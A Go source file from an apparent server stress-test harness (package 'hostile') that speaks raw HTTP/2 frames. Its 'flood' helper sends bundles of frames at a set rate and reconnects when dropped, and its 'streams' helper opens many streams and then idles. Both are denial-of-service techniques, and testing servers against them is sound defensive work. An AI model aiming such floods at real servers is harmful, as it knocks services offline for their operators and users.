package hostile

import (
	"bytes"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// frames is an HTTP/2 connection on which any frame can be written. Another goroutine reads.
type frames struct {
	*http2.Framer
	a       *attack
	conn    net.Conn
	block   bytes.Buffer
	encoder *hpack.Encoder
	stream  uint32 // the next stream
	// writing serializes writes, because the reader writes acknowledgements.
	writing sync.Mutex
}

// window returns the setting that limits the bytes that the server may send on a stream.
func window(bytes uint32) http2.Setting {
	return http2.Setting{ID: http2.SettingInitialWindowSize, Val: bytes}
}

// frames connects and sends the HTTP/2 preface.
func (a *attack) frames(settings ...http2.Setting) (*frames, error) {
	conn, err := a.open(http2Protocol)
	if err != nil {
		return nil, err
	}
	f := &frames{Framer: http2.NewFramer(conn, conn), a: a, conn: conn, stream: 1}
	f.AllowIllegalWrites = true
	f.encoder = hpack.NewEncoder(&f.block)
	if _, err = io.WriteString(conn, http2.ClientPreface); err == nil {
		err = f.WriteSettings(settings...)
	}
	if err != nil {
		a.got(cut)
		conn.Close()
		return nil, err
	}
	a.readers.Go(f.read)
	return f, nil
}

// read counts responses until the connection ends. The connection ends with the row at the latest.
func (f *frames) read() {
	f.ReadMetaHeaders = hpack.NewDecoder(64<<10, nil)
	for {
		frame, err := f.ReadFrame()
		if err != nil {
			if _, ok := err.(http2.StreamError); ok { //nolint:errorlint // never wrapped
				continue
			}
			f.a.got(cut)
			return
		}
		switch frame := frame.(type) {
		case *http2.SettingsFrame:
			if !frame.IsAck() {
				err = f.locked(f.WriteSettingsAck)
			}
		case *http2.PingFrame:
			if !frame.IsAck() {
				err = f.locked(func() error { return f.WritePing(true, frame.Data) })
			}
		case *http2.MetaHeadersFrame:
			f.a.got(frame.PseudoValue("status"))
		case *http2.RSTStreamFrame:
			f.a.got("reset")
		case *http2.GoAwayFrame:
			f.a.got("goaway")
		}
		if err != nil {
			return
		}
	}
}

func (f *frames) locked(write func() error) error {
	f.writing.Lock()
	defer f.writing.Unlock()
	return write()
}

// frame writes a frame and counts it. It reports whether the connection still accepts frames.
func (f *frames) frame(write func() error) bool {
	f.a.sent.Add(1)
	return f.locked(write) == nil
}

// fields returns the header fields of a request.
func (f *frames) fields(method, path string, header http.Header) []hpack.HeaderField {
	all := []hpack.HeaderField{
		{Name: ":method", Value: method}, {Name: ":scheme", Value: "https"}, {Name: ":authority", Value: "localhost"}, {Name: ":path", Value: path},
	}
	for name, values := range header {
		for _, value := range values {
			all = append(all, hpack.HeaderField{Name: strings.ToLower(name), Value: value})
		}
	}
	return all
}

// encoded returns a header block.
func (f *frames) encoded(fields []hpack.HeaderField) []byte {
	f.block.Reset()
	for _, field := range fields {
		_ = f.encoder.WriteField(field)
	}
	return f.block.Bytes()
}

// get opens a stream with a GET.
func (f *frames) get(path string, header http.Header) (stream uint32, ok bool) {
	return f.request(http.MethodGet, path, header, true)
}

// request opens a stream. If there is no body, request also ends the stream.
func (f *frames) request(method, path string, header http.Header, end bool) (stream uint32, ok bool) {
	stream = f.stream
	f.stream += 2
	return stream, f.frame(func() error {
		block := f.encoded(f.fields(method, path, header))
		const most = 16 << 10
		first, rest := block[:min(most, len(block))], block[min(most, len(block)):]
		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: first, EndStream: end, EndHeaders: len(rest) == 0})
		for err == nil && len(rest) > 0 {
			first, rest = rest[:min(most, len(rest))], rest[min(most, len(rest)):]
			err = f.WriteContinuation(stream, len(rest) == 0, first)
		}
		return err
	})
}

// flood makes each client write bundles of frames at the row's rate. When a connection ends, flood
// opens a new connection.
func flood(bundle int, begin func(f *frames) bool, write func(f *frames, i int) bool) func(*attack, int) {
	return func(a *attack, _ int) {
		var f *frames
		for a.turn() {
			if f == nil {
				var err error
				if f, err = a.frames(); err != nil {
					continue
				}
				if begin != nil && !begin(f) {
					f.conn.Close()
					f = nil
					continue
				}
			}
			for i := range bundle {
				if !write(f, i) {
					f.conn.Close()
					f = nil
					break
				}
			}
		}
	}
}

// streams makes each client open n streams on its own connection, and then do nothing.
func streams(n int, settings []http2.Setting, open func(f *frames, i int) bool) func(*attack, int) {
	return func(a *attack, _ int) {
		f, err := a.frames(settings...)
		if err != nil {
			return
		}
		for i := range n {
			if !a.turn() || !open(f, i) {
				break
			}
		}
		a.stay()
	}
}
